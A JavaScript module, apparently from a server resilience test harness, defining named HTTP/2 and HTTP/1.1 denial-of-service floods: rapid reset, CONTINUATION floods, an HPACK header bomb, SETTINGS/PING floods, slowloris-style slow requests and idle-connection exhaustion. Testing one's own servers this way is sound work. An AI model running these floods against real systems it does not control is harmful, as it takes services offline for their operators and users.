/** Floods of frames, headers and connections; each of them is known to stop some server of HTTP. */
import { connect as connectTcp } from "node:net";

import {
  callHeaders,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  RawHttp2,
} from "./raw-http2.mjs";

const CHECK = "/grpc.health.v1.Health/Check";
const EMPTY_MESSAGE = Buffer.alloc(5);
/** Connections that a flood has at a time; one that is closed is made anew. */
const WIDTH = 4;
const MANY = 64;
const IDLE_CONNECTIONS = 600;

/** Writes the same bytes again and again on connections that are made anew when they are closed. */
async function repeat(address, untilMs, { first = null, next, reads = true, width = WIDTH }) {
  const client = async () => {
    while (performance.now() < untilMs) {
      const connection = new RawHttp2(address, { reads });
      if (first !== null) connection.write(first);
      for (let i = 0; connection.isOpen && performance.now() < untilMs; i++) {
        const isTaken = connection.write(next(i));
        if (!isTaken) await Promise.race([connection.drained(), pause(50)]);
        else if (i % 50 === 0) await pause(0);
      }
      connection.destroy();
      await pause(1);
    }
  };
  await Promise.all(Array.from({ length: width }, client));
}

function pause(ms) {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

const BLOCK = headerBlock(callHeaders(CHECK));
const RESET = Buffer.from([0, 0, 0, 8]);

function rapidReset(i) {
  const stream = 2 * i + 1;
  return Buffer.concat([
    frame(FRAME.headers, END_HEADERS, stream, BLOCK),
    frame(FRAME.reset, 0, stream, RESET),
  ]);
}

/** A header of 4 kB that HPACK keeps in its table, then 12,000 references to it of one byte each. */
const TABLE_ENTRY = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 0x7f, 0x80 | 33, 30]),
  Buffer.alloc(4000, 97),
]);
const BOMB = Buffer.concat([BLOCK, TABLE_ENTRY, Buffer.alloc(12_000, 0x80 | 62)]);

/** Opens connections that send some bytes and then nothing. */
async function holdIdle(address, untilMs, bytes) {
  const [host, port] = address.split(":");
  const sockets = [];
  for (let i = 0; i < IDLE_CONNECTIONS && performance.now() < untilMs; i++) {
    const socket = connectTcp(Number(port), host);
    socket.on("error", () => undefined);
    socket.on("data", () => undefined);
    if (bytes !== null) socket.write(bytes);
    sockets.push(socket);
    if (i % 20 === 19) await pause(1);
  }
  await pause(Math.max(0, untilMs - performance.now()));
  for (const socket of sockets) socket.destroy();
}

/** Sends one byte of a request now and then, on many connections. */
async function sendSlowly(address, untilMs, text) {
  const [host, port] = address.split(":");
  const client = async () => {
    while (performance.now() < untilMs) {
      const socket = connectTcp(Number(port), host);
      socket.on("error", () => undefined);
      socket.on("data", () => undefined);
      for (let i = 0; !socket.destroyed && performance.now() < untilMs; i++) {
        socket.write(text.slice(i % text.length, (i % text.length) + 1));
        await pause(20);
      }
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: 200 }, client));
}

const PIPELINED = "GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n".repeat(100);
const UPGRADE = "GET / HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: h2c\r\n\r\n";

/** Each flood: its name, and what it sends to the addresses of gRPC and HTTP until a time. */
export const FLOODS = [
  {
    name: "rapid reset",
    run: ({ grpc }, untilMs) => repeat(grpc, untilMs, { next: rapidReset }),
  },
  {
    name: "rapid reset, many connections",
    run: ({ grpc }, untilMs) => repeat(grpc, untilMs, { next: rapidReset, width: MANY }),
  },
  {
    name: "continuations without end",
    run: ({ grpc }, untilMs) =>
      repeat(grpc, untilMs, {
        first: frame(FRAME.headers, 0, 1, BLOCK),
        next: () => frame(FRAME.continuation, 0, 1, headerBlock({ x: "y" })),
      }),
  },
  {
    name: "empty continuations",
    run: ({ grpc }, untilMs) =>
      repeat(grpc, untilMs, {
        first: frame(FRAME.headers, 0, 1, BLOCK),
        next: () => frame(FRAME.continuation, 0, 1),
      }),
  },
  {
    name: "settings",
    run: ({ grpc }, untilMs) =>
      repeat(grpc, untilMs, { next: () => frame(FRAME.settings, 0, 0), reads: false }),
  },
  {
    name: "pings whose answers are not read",
    run: ({ grpc }, untilMs) =>
      repeat(grpc, untilMs, {
        next: () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)),
        reads: false,
      }),
  },
  {
    name: "priorities and windows",
    run: ({ grpc }, untilMs) =>
      repeat(grpc, untilMs, {
        next: (i) =>
          Buffer.concat([
            frame(FRAME.priority, 0, 2 * i + 1, Buffer.from([0, 0, 0, 0, 16])),
            frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])),
          ]),
      }),
  },
  {
    name: "empty data",
    run: ({ grpc }, untilMs) =>
      repeat(grpc, untilMs, {
        first: frame(FRAME.headers, END_HEADERS, 1, BLOCK),
        next: () => frame(FRAME.data, 0, 1),
      }),
  },
  {
    name: "headers that unpack to 48 MB",
    run: ({ grpc }, untilMs) =>
      repeat(grpc, untilMs, {
        next: (i) => frame(FRAME.headers, END_HEADERS | END_STREAM, 2 * i + 1, BOMB),
      }),
  },
  {
    name: "streams that stay open",
    run: ({ grpc }, untilMs) =>
      repeat(grpc, untilMs, {
        next: (i) =>
          i < 2000
            ? Buffer.concat([
                frame(FRAME.headers, END_HEADERS, 2 * i + 1, BLOCK),
                frame(FRAME.data, 0, 2 * i + 1, EMPTY_MESSAGE.subarray(0, 1)),
              ])
            : Buffer.alloc(0),
      }),
  },
  {
    name: "something that is no HTTP/2",
    run: ({ grpc }, untilMs) => repeat(grpc, untilMs, { next: () => Buffer.alloc(100, 0xff) }),
  },
  { name: "idle connections, gRPC", run: ({ grpc }, untilMs) => holdIdle(grpc, untilMs, null) },
  {
    name: "half a preface",
    run: ({ grpc }, untilMs) => holdIdle(grpc, untilMs, Buffer.from("PRI * HTTP/2.0\r\n")),
  },
  { name: "idle connections, HTTP", run: ({ http }, untilMs) => holdIdle(http, untilMs, null) },
  {
    name: "requests a byte at a time",
    run: ({ http }, untilMs) =>
      sendSlowly(http, untilMs, `GET /healthz HTTP/1.1\r\nx: ${"y".repeat(900)}`),
  },
  {
    name: "calls a byte at a time",
    run: ({ grpc }, untilMs) => sendSlowly(grpc, untilMs, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0"),
  },
  {
    name: "pipelined requests, upgrades",
    run: ({ http }, untilMs) => holdIdle(http, untilMs, Buffer.from(PIPELINED + UPGRADE)),
  },
];
